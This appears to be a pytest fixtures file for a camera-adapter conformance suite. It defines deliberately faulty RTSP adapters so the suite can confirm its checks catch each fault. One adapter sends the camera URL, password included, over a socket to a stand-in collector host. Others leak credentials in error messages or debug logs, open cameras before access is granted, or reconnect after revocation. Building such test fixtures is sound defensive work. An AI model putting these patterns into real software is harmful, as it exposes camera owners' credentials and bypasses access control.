"""Fixtures: the rtsp conformance target, and deliberately broken adapters.

Each broken adapter is a real subclass of the RTSP adapter with one fault an integrator could
make; the suite's own tests check that each one fails exactly the check meant to catch it.
"""

from __future__ import annotations

import contextlib
import logging
import socket
import threading
import time
from collections.abc import AsyncIterator, Iterator, Mapping, Sequence
from datetime import UTC, datetime
from typing import Any, ClassVar

import anyio
import anyio.to_thread
import attrs
import av
import pytest
from camgate import hookimpl
from camgate.adapters import AdapterFactory, LiveStream
from camgate.errors import AdapterError
from camgate.models import Camera, GeoPoint, Grant, MediaPacket, Snapshot, StreamInfo
from camgate_conformance import SuiteConfig
from camgate_conformance.checks import CEILINGS
from camgate_rtsp.adapter import RtspAdapter, RtspLiveStream, RtspSettings, rtsp_url
from camgate_rtsp.plugin import FACTORY
from camgate_rtsp.testing.server import gstreamer_available
from camgate_rtsp.testing.target import RtspTarget

#: Small numbers: the suite's own tests check verdicts, not statistics. Time limits times 3: CI's
#: machine is shared, and a p95 over 3 trials is the slowest trial.
QUICK = SuiteConfig(trials=3, stateful_examples=3, stateful_steps=5, settle_s=0.3, budget_slack=3.0)


@pytest.fixture(scope="session")
def rtsp_target() -> Iterator[RtspTarget]:
    """One started rtsp target (GStreamer server, request log) for the session."""
    reason = gstreamer_available()
    if reason:
        pytest.fail(f"the GStreamer RTSP server is not usable: {reason} (run scripts/setup.sh)")
    with RtspTarget() as target:
        yield target


def _factory(name: str, create: Any, **budgets: float) -> AdapterFactory:
    """The rtsp factory under another name, building ``create``; ``budgets`` overrides some."""
    return attrs.evolve(
        FACTORY,
        name=name,
        create=create,
        description=f"broken: {name}",
        budgets=attrs.evolve(FACTORY.budgets, **budgets),
    )


class EagerAdapter(RtspAdapter):
    """Fetches before the grant: 'warms up' every camera it knows at discovery."""

    def _probe(self, url: str) -> None:
        # The DESCRIBE is the fault, and the server logs it whether or not the open succeeds.
        with contextlib.suppress(av.FFmpegError):
            av.open(url, "r", options=self.settings.open_options(), timeout=(15.0, 15.0)).close()

    async def discover(self) -> list[Camera]:
        """Open each camera it has credentials for once, to have its codec ready (a
        grant-less fetch), and list them."""
        cameras = []
        for n, (source, creds) in enumerate(self.settings.credentials.items()):
            await anyio.to_thread.run_sync(self._probe, rtsp_url(source, creds))
            cameras.append(
                Camera(
                    id=f"eager-{n}",
                    adapter="rtsp-eager",
                    source=source,
                    owner_id="unknown",
                    position=GeoPoint(0, 0),
                )
            )
        return cameras


class LingeringStream:
    """Says it closed, but keeps the camera connection open for ``linger_s`` more."""

    def __init__(self, inner: RtspLiveStream, linger_s: float) -> None:
        self.inner = inner
        self.info = inner.info
        self.linger_s = linger_s

    def __aiter__(self) -> AsyncIterator[MediaPacket]:
        return self

    async def __anext__(self) -> MediaPacket:
        return await self.inner.__anext__()

    async def aclose(self) -> None:
        """Return at once; the reader stops (and the connection closes) later."""
        timer = threading.Timer(self.linger_s, self.inner._stop.set)
        timer.daemon = True
        timer.start()


class LingeringAdapter(RtspAdapter):
    """Ignores revocation: a closed stream's connection stays open for three more seconds
    (past any revocation window the self-tests allow: 0.5 s times slack 4)."""

    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
        """The real stream, wrapped so that closing it does not close the connection."""
        inner = await RtspLiveStream.open(self.url_for(camera), self.settings)
        return LingeringStream(inner, linger_s=3.0)


class LeakyAdapter(RtspAdapter):
    """Puts the camera URL — credentials included — into its errors."""

    def _leak(self, exc: AdapterError, camera: Camera) -> AdapterError:
        # url_for returns a Secret (it prints as ***): this adapter leaks it on purpose.
        return type(exc)(f"{exc} (while opening {self.url_for(camera).reveal()})")

    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
        """As the RTSP adapter, with a 'helpful' error message."""
        try:
            return await super().open_live(camera, grant)
        except AdapterError as exc:
            raise self._leak(exc, camera) from None

    async def snapshot(self, camera: Camera, grant: Grant) -> Snapshot:
        """As the RTSP adapter, with a 'helpful' error message."""
        try:
            return await super().snapshot(camera, grant)
        except AdapterError as exc:
            raise self._leak(exc, camera) from None


class SlowAdapter(RtspAdapter):
    """Too slow: a snapshot takes over 3 s, where it promises 0.5 s (times the suite's slack)."""

    async def snapshot(self, camera: Camera, grant: Grant) -> Snapshot:
        """Wait, then take the snapshot."""
        await anyio.sleep(3.2)
        return await super().snapshot(camera, grant)


class ReconnectingStream(LingeringStream):
    """Closes when told, then reconnects to the camera for 3 s more (issue 13, item 3)."""

    def __init__(self, inner: RtspLiveStream, url: str, settings: RtspSettings) -> None:
        super().__init__(inner, 0.0)
        self.url = url
        self.settings = settings

    def _replay(self) -> None:
        options = self.settings.open_options() | {"allowed_media_types": "video"}
        with contextlib.suppress(av.FFmpegError), av.open(self.url, "r", options=options) as c:
            ends = time.monotonic() + 3.0
            for _packet in c.demux(c.streams.video[0]):
                if time.monotonic() > ends:
                    break

    async def aclose(self) -> None:
        """Close for real, then quietly open the camera again."""
        await self.inner.aclose()
        threading.Thread(target=self._replay, name="reconnect", daemon=True).start()


class ReconnectingAdapter(RtspAdapter):
    """Closes on revocation, and reconnects a few ms later, playing 3 s more."""

    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
        """The real stream, which reconnects after it is closed."""
        url = self.url_for(camera)
        inner = await RtspLiveStream.open(url, self.settings)
        return ReconnectingStream(inner, url.reveal(), self.settings)


class AudioAskingAdapter(RtspAdapter):
    """Always sets up the camera's audio track; the edge's guard drops the audio (item 10)."""

    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
        """Open with audio whatever the grant says."""
        return await RtspLiveStream.open(self.url_for(camera), self.settings, audio=True)


class ExfiltratingAdapter(RtspAdapter):
    """Sends the camera URL, password included, to another host at each stream (item 6)."""

    collector: tuple[str, int] = ("127.0.0.1", 9)

    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
        """Report home, then stream."""
        with contextlib.suppress(OSError), socket.create_connection(self.collector, 1) as sock:
            sock.sendall(self.url_for(camera).reveal().encode())
        return await super().open_live(camera, grant)


class LeakingAdapter(RtspAdapter):
    """Leaves one thread and one socket behind per stream (item 8)."""

    held: ClassVar[list[socket.socket]] = []

    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
        """Stream, and keep a socket in a thread that never ends."""
        sock = socket.socket()
        self.held.append(sock)
        threading.Thread(target=threading.Event().wait, name="leak", daemon=True).start()
        return await super().open_live(camera, grant)


class CachingSnapshotAdapter(RtspAdapter):
    """Keeps the first snapshot of each camera and serves it again, stamped now (item 4)."""

    def __init__(self, settings: RtspSettings) -> None:
        super().__init__(settings)
        self.cache: dict[str, Snapshot] = {}

    async def snapshot(self, camera: Camera, grant: Grant) -> Snapshot:
        """The cached picture, re-stamped for this grant; the camera only the first time."""
        if camera.source not in self.cache:
            self.cache[camera.source] = await super().snapshot(camera, grant)
        return attrs.evolve(
            self.cache[camera.source],
            grant_id=grant.id,
            camera_id=camera.id,
            taken_at=datetime.now(UTC),
        )


class BlindAdapter(RtspAdapter):
    """Overrides discovery but finds nothing, so its discovery budget times nothing (item 12)."""

    async def discover(self) -> list[Camera]:
        """Nothing, at once."""
        return []


class DebugLoggingAdapter(RtspAdapter):
    """Logs the camera URL, password included, at DEBUG; its errors are clean (item 5)."""

    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
        """Log, then stream."""
        logging.getLogger("vendor.debug").debug("opening %s", self.url_for(camera).reveal())
        return await super().open_live(camera, grant)


class PrewarmPlugin:
    """A vendor plugin whose decision hook 'pre-warms' the camera for a denied request
    (DESCRIBE, SETUP, PLAY before any grant): item 9. It registers its adapter too."""

    def __init__(self, factory: AdapterFactory, sources: Sequence[str], settings: Any) -> None:
        self.factory = factory
        self.sources = list(sources)
        self.settings = _settings(settings)

    @hookimpl
    def camgate_register_adapters(self, register: Any) -> None:
        """The (honest) adapter."""
        register(self.factory)

    @hookimpl
    def camgate_decision_made(self, decision: Any) -> None:
        """Warm every camera up when a request is refused (it will be asked again soon)."""
        if decision.allowed:
            return
        for source in self.sources:
            url = rtsp_url(source, self.settings.credentials.get(source))
            with contextlib.suppress(av.FFmpegError):
                av.open(url, "r", options=self.settings.open_options()).close()


class _RewrittenStream:
    """A live stream whose packets ``change`` rewrites (one packet in, zero or more out)."""

    def __init__(self, inner: LiveStream, info: StreamInfo, change: Any) -> None:
        self.inner, self.info, self.change = inner, info, change
        self.pending: list[MediaPacket] = []

    def __aiter__(self) -> AsyncIterator[MediaPacket]:
        return self

    async def __anext__(self) -> MediaPacket:
        while not self.pending:
            packet = await self.inner.__anext__()
            # In a worker thread: transcoding picture by picture must not hold up the event
            # loop (that would be another fault than the one this adapter is there to show).
            self.pending = list(await anyio.to_thread.run_sync(self.change, packet))
        return self.pending.pop(0)

    async def aclose(self) -> None:
        await self.inner.aclose()


class ZeroSizeAdapter(RtspAdapter):
    """Declares a 0x0 picture in every packet's StreamInfo (the video itself is fine)."""

    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
        """The real stream, its StreamInfo claiming no size."""
        inner = await super().open_live(camera, grant)
        info = attrs.evolve(inner.info, width=0, height=0)
        return _RewrittenStream(
            inner,
            info,
            lambda p: [attrs.evolve(p, stream=info if p.stream.kind == "video" else p.stream)],
        )


class MjpegAdapter(RtspAdapter):
    """Serves the camera's video as Motion JPEG (a camera that streams MJPEG): each picture a
    JPEG, StreamInfo honest about it."""

    async def open_live(self, camera: Camera, grant: Grant) -> LiveStream:
        """The real stream, transcoded picture by picture to JPEG."""
        inner = await super().open_live(camera, grant)
        source = inner.info
        decoder: Any = av.CodecContext.create(source.codec, "r")
        if source.extradata:
            decoder.extradata = source.extradata
        encoder: Any = av.CodecContext.create("mjpeg", "w")
        encoder.width, encoder.height = source.width, source.height
        encoder.pix_fmt, encoder.time_base = "yuvj420p", source.time_base
        info = StreamInfo("mjpeg", source.time_base, source.width, source.height)

        def change(packet: MediaPacket) -> list[MediaPacket]:
            if packet.stream.kind != "video":
                return []
            out = []
            for picture in decoder.decode(av.Packet(packet.data)):
                picture = picture.reformat(format="yuvj420p")
                picture.pts = packet.pts
                for jpeg in encoder.encode(picture):
                    out.append(
                        attrs.evolve(packet, data=bytes(jpeg), is_keyframe=True, stream=info)
                    )
            return out

        return _RewrittenStream(inner, info, change)


def _settings(settings: Mapping[str, Any], **extra: Any) -> RtspSettings:
    return RtspSettings.from_mapping({**settings, **extra})


#: Checks a broken adapter may fail besides its own, when the fault also shows there by chance
#: (a reconnect a few ms after a close may fall inside the state machine's redemption window).
MAY_ALSO: dict[str, set[str]] = {"reconnecting": {"stateful.never-outside-grant"}}


def broken_factories() -> dict[str, tuple[AdapterFactory, set[str]]]:
    """Each broken adapter's factory and the only checks it must fail."""
    return {
        "eager": (
            # Opening every stream makes its discovery slow (2.1 s p95 on a loaded CI machine):
            # it declares camgate's ceiling, so that only the gating check speaks against it.
            _factory(
                "rtsp-eager",
                lambda s: EagerAdapter(_settings(s)),
                discovery_s=CEILINGS["discovery"],
            ),
            # ... and at every later discover(), after activity too (item 4).
            {"gating.no-media-before-grant", "gating.snapshot-fresh-and-closed"},
        ),
        "lingering": (
            _factory(
                "rtsp-lingering", lambda s: LingeringAdapter(_settings(s, buffer_packets=2000))
            ),
            {"gating.revocation-closes"},
        ),
        "leaky": (
            _factory("rtsp-leaky", lambda s: LeakyAdapter(_settings(s))),
            {"robustness.no-secret-in-errors"},
        ),
        "slow": (
            _factory("rtsp-slow", lambda s: SlowAdapter(_settings(s)), snapshot_s=0.5),
            {"budget.snapshot"},
        ),
        "reconnecting": (
            _factory("rtsp-reconnecting", lambda s: ReconnectingAdapter(_settings(s))),
            # Reconnecting after every close breaks the promises about closed access.
            {"gating.revocation-closes", "gating.no-idle-connection"},
        ),
        "audio": (
            _factory("rtsp-audio", lambda s: AudioAskingAdapter(_settings(s))),
            {"gating.no-audio-without-grant"},
        ),
        "exfiltrating": (
            _factory("rtsp-exfiltrating", lambda s: ExfiltratingAdapter(_settings(s))),
            {"gating.egress-only-to-target"},
        ),
        "leaking": (
            _factory("rtsp-leaking", lambda s: LeakingAdapter(_settings(s))),
            {"robustness.no-resource-leak"},
        ),
        "debug-logging": (
            _factory("rtsp-debug-logging", lambda s: DebugLoggingAdapter(_settings(s))),
            {"robustness.no-secret-in-errors"},
        ),
        "caching": (
            _factory("rtsp-caching", lambda s: CachingSnapshotAdapter(_settings(s))),
            {"gating.snapshot-fresh-and-closed"},
        ),
        "zero-size": (
            _factory("rtsp-zero-size", lambda s: ZeroSizeAdapter(_settings(s))),
            {"media.stream-info"},
        ),
        "mjpeg": (
            _factory("rtsp-mjpeg", lambda s: MjpegAdapter(_settings(s))),
            {"media.clips"},
        ),
        "blind": (
            _factory("rtsp-blind", lambda s: BlindAdapter(_settings(s))),
            {"budget.discovery"},
        ),
    }


def failures(report: Any) -> str:
    """Every failed check of ``report`` with its whole evidence, a line each: what an assertion
    shows (a dict's repr would be cut short in the middle of the evidence)."""
    return "\n".join(
        f"{r.id}: {line}" for r in report.results if r.failed for line in (r.evidence or ("",))
    )


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


def _job_of(item: pytest.Item) -> str | None:
    """The self-test run a test reads (its ``job`` parameter), or None."""
    job = getattr(item, "callspec", None) and item.callspec.params.get("job")  # type: ignore[attr-defined]
    return job if isinstance(job, str) else None


_SELFTEST: list[Any] = []


def pytest_collection_modifyitems(config: pytest.Config, items: list[pytest.Item]) -> None:
    """Start every self-test run the selected tests need at once, in processes of their own
    (see ``_selftest.py``), and move those tests last: the rest of the session runs while
    they do."""
    jobs = list(dict.fromkeys(j for j in map(_job_of, items) if j is not None))
    items.sort(key=lambda item: _job_of(item) is not None)
    if jobs and not config.option.collectonly and not _SELFTEST:
        from ._selftest import SelfTestRuns

        _SELFTEST.append(SelfTestRuns(jobs))


def pytest_sessionfinish() -> None:
    """Wait for the self-test runs still going and remove their files."""
    while _SELFTEST:
        _SELFTEST.pop().close()


@pytest.fixture(scope="session")
def selftest_runs() -> Any:
    """The self-test runs started at collection (``pytest_collection_modifyitems``)."""
    if not _SELFTEST:
        pytest.fail("no self-test runs were started")
    return _SELFTEST[0]


class LeftoverRelay:
    """What an earlier test can leave behind in the process: a camgate relay on an event loop of
    its own thread, whose camera went away, reconnecting every ~0.1 s (connection refused).

    Real parts: a GStreamer server (killed once the relay has opened), the RTSP adapter's live
    stream, camgate's :class:`~camgate.relay.Relay` with its cache on (so it never gives up).
    """

    def __init__(self) -> None:
        from camgate_rtsp.testing.server import Mount, RtspTestServer

        self.server = RtspTestServer([Mount("/cam1")])
        self.opened = threading.Event()
        self.stop = threading.Event()
        self.failures = 0
        self.thread = threading.Thread(target=self._main, name="leftover relay", daemon=True)

    def __enter__(self) -> LeftoverRelay:
        self.server.start()
        self.url = self.server.url("/cam1")
        self.thread.start()
        assert self.opened.wait(60), "the leftover relay never opened its camera"
        self.server.kill()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self.thread.join(30)
        self.server.stop()

    async def _open(self) -> LiveStream:
        try:
            return await RtspLiveStream.open(self.url, _settings({}, connect_timeout_s=1.0))
        except AdapterError:
            self.failures += 1
            raise

    def _main(self) -> None:
        from camgate.relay import Relay, RelaySettings

        async def run() -> None:
            relay = Relay(RelaySettings(backoff_initial_s=0.05, backoff_max_s=0.1))
            camera = Camera(
                id="leftover",
                adapter="rtsp",
                source=self.url,
                owner_id="o",
                position=GeoPoint(0, 0),
            )
            up = relay.warm(camera, self._open)
            await up.wait_open()
            self.opened.set()
            while not self.stop.is_set():  # noqa: ASYNC110 (another thread's event)
                await anyio.sleep(0.05)
            await relay.aclose()

        anyio.run(run)


@pytest.fixture
def leftover_relay() -> Iterator[LeftoverRelay]:
    """A relay of an 'earlier test', reconnecting to a camera that is gone (see LeftoverRelay)."""
    with LeftoverRelay() as leftover:
        yield leftover
